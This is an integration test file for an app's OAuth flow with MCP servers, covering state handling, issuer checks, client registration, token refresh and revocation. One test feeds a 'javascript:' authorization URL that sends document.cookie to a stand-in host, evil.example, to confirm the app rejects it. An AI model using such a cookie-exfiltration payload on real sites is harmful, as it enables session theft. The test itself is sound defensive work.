import { hashSecret } from '../../src/lib/crypto';
import { startTestApp, type TestApp } from '../support/app';
import { connectionClient, eventsOf, expectError, type ConnectionClient } from '../support/connections';
import type { SeededOrg } from '../support/factories';
import { startOAuthUpstream, useUpstream } from '../support/upstream-mcp';
import { customConnector } from '../fixtures/connections';
import { findConnector, updateConnector } from '../../src/areas/connectors/connectors.repo';
import type { ConnectorContent } from '../../src/areas/connectors/content';

/*
 * OAuth connections over HTTP against the real app and a real OAuth-protected MCP server on
 * loopback with its own authorization server (RFC 9728 and 8414 metadata, 7591 registration,
 * PKCE S256, refresh rotation, 7009 revocation, RFC 9207 iss; levers to deny, expire and
 * revoke). The browser's part is played with fetch: open authorize_url, follow the provider's
 * redirect to the callback with the owner's session cookie.
 */

const up = useUpstream(() => startOAuthUpstream({ extraRedirectParams: { session_state: 'a1b2c3' } }));
/** Access tokens that live 30 seconds: less than the margin the server refreshes ahead of. */
const shortLived = useUpstream(() => startOAuthUpstream({ accessTokenTtl: 30 }));
/** An authorization server that neither advertises nor sends `iss` (RFC 9207 is optional). */
const withoutIss = useUpstream(() => startOAuthUpstream({ issParameter: false }));

let t: TestApp;
let org: SeededOrg;
let aliceId: string;
let aliceSession: string;
let alice: ConnectionClient;
let bobSession: string;
/** A connector added by its MCP URL alone: discovery and registration do the rest. */
let byUrl: string;

beforeAll(async () => {
  t = await startTestApp();
  org = await t.factories.org();
  aliceId = await t.factories.member(org.orgId);
  aliceSession = await t.factories.session(aliceId);
  alice = connectionClient(t, { session: aliceSession, org: org.orgId });
  bobSession = await t.factories.session(await t.factories.member(org.orgId));
  byUrl = await customConnector(t, org.orgId, {
    name: 'Acme Docs',
    mcp_url: up.peer.resource,
    auth: { type: 'oauth2', authorize_url: null, token_url: null, revocation_url: null, scopes: [], client_id: null, pkce: true },
  });
});
afterAll(() => t.close());

/** What the provider does with the browser: consents and redirects to our callback (not followed). */
async function consent(authorizeUrl: string): Promise<URL> {
  const res = await fetch(authorizeUrl, { redirect: 'manual' });
  expect(res.status).toBe(302);
  return new URL(res.headers.get('location') as string);
}

/** The browser arriving at the callback with a session; answers where it is sent next. */
async function callback(redirect: URL, session: string | null = aliceSession) {
  const res = await t.call('GET', `${redirect.pathname}${redirect.search}`, undefined, session ? { session } : {});
  return { res, location: res.status === 302 ? new URL(res.headers.get('location') as string) : null };
}

async function connected(client = alice, body: { scopes?: string[]; return_to?: string } = {}) {
  const created = await client.create({ connector_slug: byUrl, ...body });
  expect(created.status).toBe(201);
  const { location } = await callback(await consent(created.body.authorize_url));
  expect(location?.searchParams.get('result')).toBe('connected');
  return created.body.id as string;
}

describe('the connect flow', () => {
  it('discovers the provider, registers per connection, and connects through the callback', async () => {
    const clientsBefore = up.peer.clients.length;
    const created = await alice.create({ connector_slug: byUrl, name: 'Docs (work)', return_to: '/toolboxes/new?step=connections' });
    expect(created.status).toBe(201);
    const c = created.body;
    expect(c).toMatchObject({ status: 'pending', auth_type: 'oauth2', has_credentials: false, scopes: ['mcp:tools'], last_used_at: null });
    expect(Date.parse(c.authorize_expires_at) - Date.now()).toBeGreaterThan(9 * 60_000);
    const redirectUri = `${t.url}/connection/${c.id}/callback`;
    // Registered once, for this connection's redirect URI.
    expect(up.peer.clients.slice(clientsBefore)).toEqual([expect.objectContaining({ redirect_uris: [redirectUri] })]);
    const authorize = new URL(c.authorize_url);
    expect(`${authorize.origin}${authorize.pathname}`).toBe(up.peer.endpoints.authorize);
    expect(Object.fromEntries(authorize.searchParams)).toMatchObject({
      response_type: 'code',
      redirect_uri: redirectUri,
      code_challenge_method: 'S256',
      resource: up.peer.resource,
      scope: 'mcp:tools',
    });
    // The state is stored hashed only.
    const row = await t.db.selectFrom('connections').selectAll().where('id', '=', c.id).executeTakeFirstOrThrow();
    expect(row.authorize_state_hash).toBe(hashSecret(authorize.searchParams.get('state') as string));
    // Only the owner sees the authorize URL.
    const ownerView = await connectionClient(t, { token: org.token, org: org.orgId }).read(c.id);
    expect(ownerView.body.authorize_url).toBeNull();

    const redirect = await consent(c.authorize_url);
    expect(redirect.searchParams.get('iss')).toBe(up.peer.issuer);
    expect(redirect.searchParams.get('session_state')).toBe('a1b2c3');
    const { res, location } = await callback(redirect);
    expect(res.status).toBe(302);
    expect(location?.pathname).toBe('/toolboxes/new');
    expect(Object.fromEntries(location?.searchParams ?? [])).toEqual({ step: 'connections', connection_id: c.id, result: 'connected' });
    const token = up.peer.tokenRequests.at(-1);
    expect(token).toMatchObject({ grant_type: 'authorization_code', resource: up.peer.resource, status: 200 });

    const after = (await alice.read(c.id)).body;
    expect(after).toMatchObject({
      status: 'active',
      has_credentials: true,
      authorize_url: null,
      authorize_expires_at: null,
      last_error: null,
      scopes: ['mcp:tools'],
    });
    expect((await t.factories.auditEntries(org.orgId, 'connection.authorized')).some((e) => e.target_id === c.id && e.actor_user_id === aliceId)).toBe(true);
    const created_ = (await eventsOf(t, org.orgId, 'connection.created')).find((e) => e.payload.connection.id === c.id);
    expect(created_?.payload.connection.status).toBe('pending');

    // The upstream sees the connection's own bearer token, never the caller's credential.
    const mark = up.peer.seen.length;
    const tools = await alice.tools(c.id);
    expect(tools.status).toBe(200);
    expect(tools.body.data.map((tool: { name: string }) => tool.name)).toContain('whoami');
    const seen = up.peer.seen.slice(mark);
    expect(seen.length).toBeGreaterThan(0);
    expect(seen.every((s) => s.accepted && s.credential !== aliceSession)).toBe(true);
  });

  it('works once per state: a reused one fails with invalid_state', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    const redirect = await consent(created.body.authorize_url);
    expect((await callback(redirect)).location?.searchParams.get('result')).toBe('connected');
    const again = await callback(redirect);
    expect(again.res.status).toBe(302);
    expect(Object.fromEntries(again.location?.searchParams ?? [])).toEqual({ connection_id: created.body.id, result: 'failed', error: 'invalid_state' });
    expect(again.location?.pathname).toBe(`/connections/${created.body.id}`);
    const after = (await alice.read(created.body.id)).body;
    expect(after.status).toBe('active');
    expect(after.last_error).toMatch(/could not be completed/);
  });

  it('refuses an expired state, and one a newer reconnect replaced', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    const first = await consent(created.body.authorize_url);
    await t.db
      .updateTable('connections')
      .set({ authorize_expires_at: new Date(Date.now() - 1000) })
      .where('id', '=', created.body.id)
      .execute();
    expect((await callback(first)).location?.searchParams.get('error')).toBe('invalid_state');

    const re1 = await alice.reconnect(created.body.id);
    expect(re1.status).toBe(200);
    expect(re1.body.status).toBe('pending');
    const older = await consent(re1.body.authorize_url);
    const re2 = await alice.reconnect(created.body.id, { return_to: '/connections' });
    expect(re2.body.authorize_url).not.toBe(re1.body.authorize_url);
    expect((await callback(older)).location?.searchParams.get('error')).toBe('invalid_state');
    const newer = await callback(await consent(re2.body.authorize_url));
    expect(newer.location?.pathname).toBe('/connections');
    expect(newer.location?.searchParams.get('result')).toBe('connected');
    // One registration for the connection, kept across reconnects.
    expect(up.peer.clients.filter((cl) => cl.redirect_uris[0] === `${t.url}/connection/${created.body.id}/callback`)).toHaveLength(1);
  });

  it('takes only the owner’s session: 403 for another member, 401 without one, 404 outside the organization', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    const redirect = await consent(created.body.authorize_url);
    expectError((await callback(redirect, bobSession)).res, 403, 'not_connection_owner');
    expectError((await callback(redirect, null)).res, 401, 'unauthenticated');
    const stranger = await t.factories.session((await t.factories.org()).ownerId);
    expectError((await callback(redirect, stranger)).res, 404, 'not_found');
    // None of that used the state: the owner still completes it.
    expect((await callback(redirect)).location?.searchParams.get('result')).toBe('connected');
  });

  it('asks for a second factor where the organization requires one', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    const redirect = await consent(created.body.authorize_url);
    await t.db.updateTable('organizations').set({ require_mfa: true }).where('id', '=', org.orgId).execute();
    try {
      expectError((await callback(redirect)).res, 403, 'mfa_setup_required');
    } finally {
      await t.db.updateTable('organizations').set({ require_mfa: false }).where('id', '=', org.orgId).execute();
    }
    expect((await callback(redirect)).location?.searchParams.get('result')).toBe('connected');
  });

  it('never hands out an authorization endpoint the provider names with another scheme than http(s)', async () => {
    const endpoint = up.peer.endpoints.authorize;
    try {
      for (const named of ['javascript:fetch(`https://evil.example/?c=`+document.cookie)//', 'data:text/html,<script>alert(1)</script>']) {
        up.peer.endpoints.authorize = named;
        const created = await alice.create({ connector_slug: byUrl });
        expect([created.status, created.body.code]).toEqual([502, 'upstream_unavailable']);
        expect(created.body.detail).toContain('authorization endpoint must use https');
        expect(created.text).not.toContain('javascript:');
      }
    } finally {
      up.peer.endpoints.authorize = endpoint;
    }
    expect((await alice.create({ connector_slug: byUrl })).status).toBe(201);
  });

  it('reports a refusal at the provider, and an issuer that is not the one asked', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    up.peer.denyNext();
    const denied = await callback(await consent(created.body.authorize_url));
    expect(Object.fromEntries(denied.location?.searchParams ?? [])).toMatchObject({ result: 'failed', error: 'access_denied' });
    expect((await alice.read(created.body.id)).body).toMatchObject({ status: 'pending', last_error: expect.stringMatching(/declined/) });

    const re = await alice.reconnect(created.body.id);
    const redirect = await consent(re.body.authorize_url);
    redirect.searchParams.set('iss', 'https://evil.example');
    expect((await callback(redirect)).location?.searchParams.get('error')).toBe('invalid_state');
    expect((await alice.read(created.body.id)).body.status).toBe('pending');
  });
});

describe('clients registered at the authorization server (RFC 7591)', () => {
  const discovered = (mcpUrl: string) => ({
    mcp_url: mcpUrl,
    auth: { type: 'oauth2' as const, authorize_url: null, token_url: null, revocation_url: null, scopes: [], client_id: null, pkce: true },
  });

  it('reuses the client registered for the same authorization server and redirect URI when a connection is authorized again', async () => {
    const slug = await customConnector(t, org.orgId, discovered(up.peer.resource));
    const created = await alice.create({ connector_slug: slug });
    const redirectUri = `${t.url}/connection/${created.body.id}/callback`;
    const registered = () => up.peer.clients.filter((c) => c.redirect_uris.includes(redirectUri));
    expect(registered()).toHaveLength(1);
    // The connector moves to another origin and back: the connection forgets what it discovered and registered.
    const admin = t.as({ token: org.token, org: org.orgId });
    expect((await admin.patch(`/connector/${slug}`, { mcp_url: 'https://elsewhere.example/mcp' })).status).toBe(200);
    expect((await admin.patch(`/connector/${slug}`, { mcp_url: up.peer.resource })).status).toBe(200);
    expect((await alice.read(created.body.id)).body.status).toBe('disconnected');
    const again = await alice.reconnect(created.body.id);
    expect(again.status).toBe(200);
    expect(registered()).toHaveLength(1);
    expect(new URL(again.body.authorize_url).searchParams.get('client_id')).toBe(registered()[0]?.client_id);
    expect((await callback(await consent(again.body.authorize_url))).location?.searchParams.get('result')).toBe('connected');
  });

  it('limits the new registrations an organization makes per hour: 429 rate_limited past it, nothing registered or created', async () => {
    const other = await t.factories.org();
    const owner = connectionClient(t, { token: other.token, org: other.orgId });
    const slug = await customConnector(t, other.orgId, discovered(up.peer.resource));
    const config = t.deps.config as { oauthRegistrationsPerHour: number };
    const saved = config.oauthRegistrationsPerHour;
    config.oauthRegistrationsPerHour = 2;
    try {
      expect((await owner.create({ connector_slug: slug })).status).toBe(201);
      expect((await owner.create({ connector_slug: slug })).status).toBe(201);
      const clients = up.peer.clients.length;
      const refused = await owner.create({ connector_slug: slug });
      expectError(refused, 429, 'rate_limited');
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(up.peer.clients.length).toBe(clients);
      expect((await owner.list()).body.data).toHaveLength(2);
      // Another organization's registrations are counted on their own.
      const third = await t.factories.org();
      const thirdSlug = await customConnector(t, third.orgId, discovered(up.peer.resource));
      expect((await connectionClient(t, { token: third.token, org: third.orgId }).create({ connector_slug: thirdSlug })).status).toBe(201);
    } finally {
      config.oauthRegistrationsPerHour = saved;
    }
  });
});

describe('the issuer of an authorization response (RFC 9207)', () => {
  it('refuses a response without iss when the authorization server says it sends one, and exchanges no code', async () => {
    const created = await alice.create({ connector_slug: byUrl });
    const redirect = await consent(created.body.authorize_url);
    expect(redirect.searchParams.get('iss')).toBe(up.peer.issuer);
    redirect.searchParams.delete('iss');
    const exchanges = up.peer.tokenRequests.length;
    const { location } = await callback(redirect);
    expect(Object.fromEntries(location?.searchParams ?? [])).toMatchObject({ result: 'failed', error: 'invalid_state' });
    expect(up.peer.tokenRequests.length).toBe(exchanges);
    expect((await alice.read(created.body.id)).body).toMatchObject({ status: 'pending', has_credentials: false, last_error: expect.stringMatching(/iss/) });
  });

  it('accepts a response without iss from an authorization server that does not advertise it', async () => {
    const slug = await customConnector(t, org.orgId, {
      mcp_url: withoutIss.peer.resource,
      auth: { type: 'oauth2', authorize_url: null, token_url: null, revocation_url: null, scopes: [], client_id: null, pkce: true },
    });
    const created = await alice.create({ connector_slug: slug });
    const redirect = await consent(created.body.authorize_url);
    expect(redirect.searchParams.has('iss')).toBe(false);
    expect((await callback(redirect)).location?.searchParams.get('result')).toBe('connected');
  });
});

describe('tokens over time', () => {
  it('refreshes an expired access token, with rotation', async () => {
    const id = await connected();
    up.peer.expireAccessTokens();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
    const before = up.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token').length;
    const res = await alice.tools(id);
    expect(res.status).toBe(200);
    expect(up.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token' && r.status === 200).length).toBe(before + 1);
    // The rotated refresh token works next time too.
    up.peer.expireAccessTokens();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
    expect((await alice.tools(id)).status).toBe(200);
    expect((await alice.read(id)).body.status).toBe('active');
  });

  it('refreshes before an access token expires rather than send one about to lapse', async () => {
    const slug = await customConnector(t, org.orgId, {
      mcp_url: shortLived.peer.resource,
      auth: { type: 'oauth2', authorize_url: null, token_url: null, revocation_url: null, scopes: [], client_id: null, pkce: true },
    });
    const created = await alice.create({ connector_slug: slug });
    expect((await callback(await consent(created.body.authorize_url))).location?.searchParams.get('result')).toBe('connected');
    const mark = shortLived.peer.seen.length;
    const refreshes = () => shortLived.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token' && r.status === 200).length;
    const before = refreshes();
    expect((await alice.tools(created.body.id)).status).toBe(200);
    expect(refreshes()).toBe(before + 1);
    // The upstream never saw the old token: nothing was refused.
    expect(shortLived.peer.seen.slice(mark).every((s) => s.accepted)).toBe(true);
  });

  it('refreshes once for concurrent calls refused with one expired token, and every call uses the new tokens', async () => {
    const id = await connected();
    up.peer.expireAccessTokens();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
    const refreshes = () => up.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token').length;
    const before = refreshes();
    // A slow token endpoint: every call has been refused (401) before the first refresh is done.
    up.peer.tokenDelayMs = 300;
    let answers;
    try {
      answers = await Promise.all(Array.from({ length: 4 }, () => alice.tools(id)));
    } finally {
      up.peer.tokenDelayMs = 0;
    }
    expect(answers.map((r) => r.status)).toEqual([200, 200, 200, 200]);
    expect(refreshes() - before).toBe(1);
    expect((await alice.read(id)).body).toMatchObject({ status: 'active', status_reason: null });
  });

  it('refreshes once for concurrent calls on two replicas refused with one expired token', async () => {
    const replica = await startTestApp({ replicaOf: t });
    try {
      const id = await connected();
      up.peer.expireAccessTokens();
      await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
      const onReplica = connectionClient(replica, { session: aliceSession, org: org.orgId });
      const refreshes = () => up.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token').length;
      const before = refreshes();
      up.peer.tokenDelayMs = 300;
      let answers;
      try {
        answers = await Promise.all([alice.tools(id), onReplica.tools(id), alice.tools(id), onReplica.tools(id)]);
      } finally {
        up.peer.tokenDelayMs = 0;
      }
      expect(answers.map((r) => r.status)).toEqual([200, 200, 200, 200]);
      expect(refreshes() - before).toBe(1);
      expect((await alice.read(id)).body).toMatchObject({ status: 'active', status_reason: null });
    } finally {
      await replica.close();
    }
  });

  it('answers other requests of the app while a token refresh waits for the provider', async () => {
    const id = await connected();
    up.peer.expireAccessTokens();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
    const received = up.peer.tokenRequestsReceived;
    const refreshesAnswered = () => up.peer.tokenRequests.filter((r) => r.grant_type === 'refresh_token').length;
    const before = refreshesAnswered();
    const order: string[] = [];
    up.peer.tokenDelayMs = 1500;
    try {
      const refreshed = alice.tools(id).then((res) => (order.push('refreshed call'), res));
      // The refresh token is being spent: the provider holds the request.
      while (up.peer.tokenRequestsReceived === received && order.length === 0) await new Promise((resolve) => setTimeout(resolve, 10));
      const other = await alice.list();
      // Had the refresh held the database (the embedded one has one connection), the listing
      // would have waited for the provider's answer, and come back after it.
      if (refreshesAnswered() > before) order.push('provider answered the refresh');
      order.push('listing');
      expect(other.status).toBe(200);
      expect((await refreshed).status).toBe(200);
    } finally {
      up.peer.tokenDelayMs = 0;
    }
    expect(order).toEqual(['listing', 'refreshed call']);
  });

  it('makes the connection needs_reauth with an event when the provider refuses the refresh', async () => {
    const id = await connected();
    up.peer.revokeAll();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', id).execute();
    expectError(await alice.tools(id), 409, 'connection_needs_reauth');
    const after = (await alice.read(id)).body;
    expect(after).toMatchObject({ status: 'needs_reauth', status_reason: 'refresh_failed', has_credentials: true });
    expect(after.last_error).toMatch(/invalid_grant/);
    const event = (await eventsOf(t, org.orgId, 'connection.needs_reauth')).find((e) => e.payload.connection.id === id);
    expect(event).toMatchObject({ actor_type: 'system', payload: { connection: { id, status: 'needs_reauth' }, reason: expect.any(String) } });
    // Reconnect keeps the id and its status until the callback succeeds.
    const re = await alice.reconnect(id);
    expect(re.body).toMatchObject({ id, status: 'needs_reauth' });
    expect((await callback(await consent(re.body.authorize_url))).location?.searchParams.get('result')).toBe('connected');
    expect((await alice.read(id)).body).toMatchObject({ status: 'active', status_reason: null, last_error: null });
    expect((await alice.tools(id)).status).toBe(200);
  });

  it('revokes the tokens at the provider when the connection is deleted', async () => {
    const id = await connected();
    const before = up.peer.revoked.length;
    expect((await alice.remove(id)).status).toBe(204);
    const revoked = up.peer.revoked.slice(before);
    expect(revoked.map((r) => r.kind).sort()).toEqual(['access_token', 'refresh_token']);
  });
});

describe('an OAuth connector configured in full', () => {
  it('uses its client id and endpoints without discovery or registration', async () => {
    const clientId = 'preregistered-acme';
    const placeholder = `${t.url}/connection/`;
    const slug = await customConnector(t, org.orgId, {
      mcp_url: up.peer.resource,
      auth: {
        type: 'oauth2',
        authorize_url: up.peer.endpoints.authorize,
        token_url: up.peer.endpoints.token,
        revocation_url: up.peer.endpoints.revoke,
        scopes: ['mcp:tools'],
        client_id: clientId,
        pkce: true,
      },
      client_secret: 'acme-secret',
    });
    const created = await alice.create({ connector_slug: slug });
    expect(created.status).toBe(201);
    up.peer.addClient({
      client_id: clientId,
      client_secret: 'acme-secret',
      token_endpoint_auth_method: 'client_secret_post',
      redirect_uris: [`${placeholder}${created.body.id}/callback`],
    });
    const authorize = new URL(created.body.authorize_url);
    expect(authorize.searchParams.get('client_id')).toBe(clientId);
    const { location } = await callback(await consent(created.body.authorize_url));
    expect(location?.searchParams.get('result')).toBe('connected');
    expect(up.peer.tokenRequests.at(-1)).toMatchObject({ client_id: clientId, client_auth: 'client_secret_post', status: 200 });
    expect(created.text).not.toContain('acme-secret');
  });

  it('never spends a refresh token at another token endpoint than the one that issued it', async () => {
    const clientId = 'preregistered-moving';
    const slug = await customConnector(t, org.orgId, {
      mcp_url: up.peer.resource,
      auth: {
        type: 'oauth2',
        authorize_url: up.peer.endpoints.authorize,
        token_url: up.peer.endpoints.token,
        revocation_url: null,
        scopes: ['mcp:tools'],
        client_id: clientId,
        pkce: true,
      },
    });
    const created = await alice.create({ connector_slug: slug });
    up.peer.addClient({ client_id: clientId, redirect_uris: [`${t.url}/connection/${created.body.id}/callback`] });
    expect((await callback(await consent(created.body.authorize_url))).location?.searchParams.get('result')).toBe('connected');
    // The moment before the connection hears that its connector now names another token endpoint.
    const found = await findConnector(t.db, org.orgId, slug);
    const content = found!.content as ConnectorContent;
    await updateConnector(t.db, org.orgId, slug, {
      content: { ...content, auth: { ...content.auth, token_url: shortLived.peer.endpoints.token } as ConnectorContent['auth'] },
    });
    up.peer.expireAccessTokens();
    await t.db.deleteFrom('connection_tools').where('connection_id', '=', created.body.id).execute();
    const elsewhere = shortLived.peer.tokenRequests.length;
    expectError(await alice.tools(created.body.id), 409, 'connection_needs_reauth');
    expect(shortLived.peer.tokenRequests.length).toBe(elsewhere);
  });
});
